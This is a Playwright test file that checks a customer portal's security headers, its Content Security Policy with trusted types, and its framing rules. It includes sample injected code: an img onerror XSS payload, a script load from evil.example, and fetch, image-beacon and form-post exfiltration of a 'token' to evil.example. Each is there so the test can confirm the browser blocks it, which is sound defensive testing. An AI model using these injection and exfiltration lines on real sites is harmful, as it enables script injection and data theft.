import { createServer, type Server } from 'node:http'
import type { Page } from '@playwright/test'
import { expect, test } from '#tests/support/portal-test.ts'

/** Tries something on the page, as code that got in somehow would. @returns what was thrown, or nothing. */
const attempt = (page: Page, act: () => unknown) => page.evaluate(act).then(String, (error: Error) => error.message)

/** Waits until the browser has said that it stopped something, and lets the test pass with it. */
async function stopped(violations: string[]): Promise<void> {
  const reported = () => violations.filter((line) => line.startsWith('policy violated:')).length
  await expect.poll(reported, 'what the browser stopped').toBe(1)
  violations.length = 0
}

test('every page comes with its headers, and nothing that a page does is against them', async ({
  visitor,
  page,
  portal,
}) => {
  const document = page.waitForResponse(`${portal.origin('fr')}/en/profile`)
  await visitor.arriveAs('pass-holder', '/en/profile')
  const headers = (await document).headers()
  expect(headers).toMatchObject({
    'x-content-type-options': 'nosniff',
    'referrer-policy': 'strict-origin',
    'permissions-policy': expect.stringContaining('camera=(self)'),
    'cross-origin-opener-policy': expect.stringContaining('same-origin'),
  })
  expect(headers['content-security-policy']).toContain("require-trusted-types-for 'script'")
  expect(headers['content-security-policy']).not.toMatch(/unsafe-(?:inline|eval|hashes)/)
  expect(headers['strict-transport-security'], 'has no meaning without https').toBeUndefined()
  await expect(page.getByRole('heading', { level: 1, name: 'Your profile' })).toBeVisible()
})

test('code that got onto a page anyhow cannot become more, and cannot get anything out', async ({
  visitor,
  page,
  policyViolations,
}) => {
  const told: string[] = []
  page.on('requestfinished', (request) => told.push(request.url()))
  await page.route('https://evil.example/**', (route) => route.fulfill({ body: '' }))
  await visitor.goTo('/en/unavailable')
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()

  const attempts: Record<string, () => unknown> = {
    'cannot turn text into markup': () => {
      document.body.innerHTML = '<img src=x onerror="window.ran = true">'
    },
    'cannot turn text into code': () => {
      const script = document.createElement('script')
      script.text = 'window.ran = true'
      document.body.append(script)
    },
    'cannot load code from a stranger': () => {
      const script = document.createElement('script')
      script.src = 'https://evil.example/x.js'
      document.body.append(script)
    },
    'cannot start a worker of its own': () => new Worker(URL.createObjectURL(new Blob(['1']))),
    'cannot write a policy of its own': () => {
      const types: unknown = Reflect.get(window, 'trustedTypes')
      if (typeof types === 'object' && types) Reflect.apply(Reflect.get(types, 'createPolicy'), types, ['mine', {}])
    },
    'cannot write the policy of somebody else anew': () => {
      const types: unknown = Reflect.get(window, 'trustedTypes')
      if (typeof types === 'object' && types) Reflect.apply(Reflect.get(types, 'createPolicy'), types, ['default', {}])
    },
  }
  for (const [what, act] of Object.entries(attempts)) {
    await test.step(what, async () => {
      expect(await attempt(page, act)).toMatch(/TypeError|Trusted|SecurityError/)
      await stopped(policyViolations)
      expect(await page.evaluate(() => Reflect.has(window, 'ran'))).toBe(false)
    })
  }

  const ways: Record<string, () => unknown> = {
    'cannot call a stranger': () => fetch('https://evil.example/?token').catch(() => undefined),
    'cannot tell a stranger anything by a picture': () => {
      document.createElement('img').src = 'https://evil.example/?token'
    },
    'cannot send a form to a stranger': () => {
      const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/', method: 'post' })
      document.body.append(form)
      form.submit()
    },
    'cannot show a stranger in a frame': () => {
      document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }))
    },
    'cannot dress the page': () => {
      document.head.append(Object.assign(document.createElement('style'), { textContent: 'body { opacity: 0 }' }))
    },
  }
  for (const [what, act] of Object.entries(ways)) {
    await test.step(what, async () => {
      await attempt(page, act)
      await stopped(policyViolations)
    })
  }
  expect(told.filter((url) => url.includes('evil'))).toEqual([])
  expect(await page.evaluate(() => Reflect.has(window, 'ran'))).toBe(false)
})

test.describe("in somebody else's frame", () => {
  let hosts: Server
  let framed = ''

  test.beforeAll(async () => {
    hosts = createServer((_request, response) => {
      response.setHeader('content-type', 'text/html')
      response.end(`<!doctype html><title>A host</title><iframe src="${framed}"></iframe>`)
    })
    await new Promise<void>((ready) => hosts.listen(0, '127.0.0.1', ready))
  })

  test.afterAll(() => {
    hosts.close()
    hosts.closeAllConnections()
  })

  /** Opens a page of somebody's that shows an address of the portal in a frame. */
  async function frameOn(page: Page, host: string, address: string): Promise<void> {
    const listening = hosts.address()
    framed = address
    await page.goto(`http://${host}.localhost:${typeof listening === 'object' ? listening?.port : 0}/`)
  }

  test('a stranger can show nothing, and a host that is known no page of a customer', async ({
    page,
    portal,
    policyViolations,
  }) => {
    const refused = () => policyViolations.filter((line) => line.includes('frame-ancestors')).length
    let frames = 0
    for (const [host, path] of [
      ['stranger', '/en'],
      ['stranger', '/en/m/friends'],
      ['stranger', '/en/register'],
      ['stranger', '/callback'],
      ['host', '/en'],
      ['host', '/en/profile'],
      ['host', '/en/m/friends/..%2f..%2fprofile'],
    ] as const) {
      await test.step(`${host} cannot show ${path}`, async () => {
        frames += 1
        await frameOn(page, host, portal.origin('fr') + path)
        await expect.poll(refused).toBe(frames)
        await expect(page.frameLocator('iframe').locator('#root')).toHaveCount(0)
      })
    }
    policyViolations.length = 0
  })

  test('a host that is known can show what is made for it, and what a customer meets on the way there', async ({
    page,
    portal,
  }) => {
    // What the portal then does there is another matter: here its code stays away, and the document says so.
    await page.route('**/assets/*.js', (route) => route.abort())
    for (const path of ['/en/m/friends', '/en/m/history', '/en/m/cinemas', '/en/register', '/en/error', '/callback']) {
      await test.step(path, async () => {
        await frameOn(page, 'host', portal.origin('fr') + path)
        await expect(
          page.frameLocator('iframe').getByRole('button', { name: /^(?:Try again|Réessayer)$/ }),
        ).toBeVisible()
      })
    }
  })
})
